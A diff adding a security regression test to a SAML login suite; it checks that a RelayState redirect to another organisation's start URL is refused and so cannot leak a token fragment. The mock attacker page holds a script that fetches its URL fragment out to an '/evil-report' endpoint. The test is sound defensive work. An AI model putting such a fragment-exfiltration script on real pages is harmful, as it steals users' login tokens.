@@ -39,6 +39,8 @@ describe.skipIf(!HAS_CHROMIUM)('SAML login in headless Chromium', () => {
   let provider: { id: string; service: { acsURL: string; startURL: string; entityID: string } };
   let idpServer: Server;
   let idpOrigin: string;
+  /** What the attacker's IdP page found in its URL's fragment. */
+  const evilSaw: string[] = [];
   /** Who the identity provider signs in, per browser (by its user agent). */
   const signedIn = new Map<string, string>();
 
@@ -47,8 +49,16 @@ describe.skipIf(!HAS_CHROMIUM)('SAML login in headless Chromium', () => {
     idp = await createTestIdP('browser-idp');
     idpServer = createServer(await localhostTls(), (req, res) => {
       const url = `${idpOrigin}${req.url}`;
+      if (req.url?.startsWith('/evil-report')) {
+        evilSaw.push(decodeURIComponent(req.url.slice('/evil-report?'.length)));
+        return void res.writeHead(204).end();
+      }
+      if (req.url?.startsWith('/evil')) {
+        // The attacker's IdP page: it reports what its URL's fragment holds.
+        return void res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>evil</title><script>fetch("/evil-report?" + encodeURIComponent(location.hash))</script>');
+      }
       const email = signedIn.get(req.headers['user-agent'] ?? '');
-      if (!email) return void res.writeHead(204).end();
+      if (!email || !new URL(url).searchParams.has('SAMLRequest')) return void res.writeHead(204).end();
       const request = idp.readAuthnRequest(url);
       const SAMLResponse = idp.response({ acsURL: request.acsURL, audience: provider.service.entityID, inResponseTo: request.id, email });
       res.writeHead(200, { 'content-type': 'text/html' }).end(autoPost(request.acsURL, { SAMLResponse, RelayState: request.relayState ?? '' }));
@@ -88,6 +98,22 @@ describe.skipIf(!HAS_CHROMIUM)('SAML login in headless Chromium', () => {
     expect(me.body.email).toBe(email);
     // The binding cookie is spent.
     expect((await context.cookies()).filter((c) => c.name.startsWith('saml_request_'))).toEqual([]);
+    await context.close();
+  });
+
+  it('never returns to another provider\'s startURL, whose redirect would carry the token\'s fragment to the ssoURL any admin sets', async () => {
+    const attackerOrg = await newOrg('Attacker');
+    const evil = await api.request('POST', `/orgs/${attackerOrg.id}/saml`, {
+      token: attackerOrg.admin.token, body: { label: 'Evil', entityID: 'https://evil.test/', certificate: idp.certificate, ssoURL: `${idpOrigin}/evil` },
+    });
+    expect(evil.status).toBe(201);
+    const context = await browserSignedInAtIdP(`relay.${randomId(8).toLowerCase()}@acme.example`);
+    const page = await context.newPage();
+    await page.goto(`${provider.service.startURL}?RelayState=${encodeURIComponent(evil.body.service.startURL)}`);
+    expect(await page.title()).toBe('Sign-in failed');
+    expect(await page.locator('#reason').innerText()).toBe('RelayState: must be a URL of this service');
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    expect(evilSaw).toEqual([]);
     await context.close();
   });
 
